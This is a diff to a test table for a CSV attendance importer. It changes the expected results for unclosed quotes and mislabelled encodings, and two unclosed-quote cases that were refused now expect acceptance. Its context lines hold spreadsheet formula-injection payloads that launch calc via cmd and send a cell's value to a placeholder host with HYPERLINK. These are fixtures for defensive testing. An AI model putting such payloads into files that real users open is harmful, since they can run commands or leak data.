@@ -97,8 +97,8 @@ const LONG = "长".repeat(100_000);
 /** Delimited text that is broken, enormous, or in another encoding than it says. */
 // biome-ignore format: a table is read by its columns
 const TEXTS: readonly Entry[] = [
-  ["unclosed-quote", "引号没有闭合", "a quote that is never closed", "考勤.csv", refused("file-damaged"), () => utf8(text(GOOD, '"0064,张小明,2026-06-02,8,出勤,'))],
-  ["unclosed-quote-early", "表头前引号没有闭合", "a quote that opens before the headings", "考勤.csv", refused("file-damaged"), () => utf8(`"${text(GOOD)}`)],
+  ["unclosed-quote", "引号没有闭合", "a quote that is never closed", "考勤.csv", partly(one, ["unknown-student"]), () => utf8(text(GOOD, '"0064,张小明,2026-06-02,8,出勤,'))],
+  ["unclosed-quote-early", "表头前引号没有闭合", "a quote that opens before the headings", "考勤.csv", accepted(one, ["matched-by-name"]), () => utf8(`"${text(GOOD)}`)],
   ["one-line", "一行 20 MB", "a line of 20 MB", "考勤.csv", refused("file-damaged"), () => utf8(text(GOOD) + "x".repeat(20e6))],
   ["many-columns", "十万列", "100,000 columns", "考勤.csv", accepted(one), () => utf8(`${HEAD}${",".repeat(100_000)}\n${GOOD}${",1".repeat(100_000)}\n`)],
   ["long-cell", "备注有十万字", "a note of 100,000 characters", "考勤.csv", accepted(one), () => utf8(text(`${GOOD}${LONG}`))],
@@ -108,8 +108,8 @@ const TEXTS: readonly Entry[] = [
   ["formula-at", "姓名是 @SUM(…)", "a name @SUM(1+1)", "考勤.csv", partly(one, ["unknown-student"]), () => utf8(text(GOOD, ",@SUM(1+1)*cmd|' /C calc'!A0,2026-06-02,8,出勤,"))],
   ["formula-plus", "工号是 +1+cmd", "an employee number +1+cmd", "考勤.csv", partly(one, ["unknown-student"]), () => utf8(text(GOOD, "+1+cmd|' /C calc'!A0,,2026-06-02,8,出勤,"))],
   ["formula-note", "备注是公式", "a formula in the note", "考勤.csv", accepted(one), () => utf8(text(`${GOOD}=HYPERLINK("http://x.example"&A1)`.replaceAll('"', "")))],
-  ["utf8-bom-on-gbk", "GBK 文件却有 UTF-8 标记", "GBK behind the byte order mark of UTF-8", "考勤.csv", refused("header-not-recognised"), async () => behind(utf8("\uFEFF"), await gbk(text(GOOD)))],
-  ["utf16-wrong-order", "UTF-16 字节序标反了", "UTF-16 under the mark of the other byte order", "考勤.csv", refused("file-not-what-it-says"), () => Uint8Array.from([0xff, 0xfe, ...utf16(text(GOOD), false)])],
+  ["utf8-bom-on-gbk", "GBK 文件却有 UTF-8 标记", "GBK behind the byte order mark of UTF-8", "考勤.csv", refused("file-not-what-it-says"), async () => behind(utf8("\uFEFF"), await gbk(text(GOOD)))],
+  ["utf16-wrong-order", "UTF-16 字节序标反了", "UTF-16 under the mark of the other byte order", "考勤.csv", refused("header-not-recognised"), () => Uint8Array.from([0xff, 0xfe, ...utf16(text(GOOD), false)])],
   ["odd-utf16", "UTF-16 少了半个字", "UTF-16 that ends in half a unit", "考勤.csv", accepted(one), () => Uint8Array.from([0xff, 0xfe, ...utf16(text(GOOD), true), 0x41])],
   ["broken-utf8", "UTF-8 里混入一行 GBK", "a line of GBK within UTF-8", "考勤.csv", partly(one, ["text-damaged"]), async () => behind(utf8(text(GOOD)), await gbk(",张小明,2026-06-02,8,出勤,\n"))],
   ["lone-surrogate", "姓名里有半个代理对", "a lone surrogate in a name", "考勤.csv", partly(one, ["text-damaged"]), () => utf16(`\uFEFF${text(GOOD, ",张\ud800明,2026-06-02,8,出勤,")}`, true)],
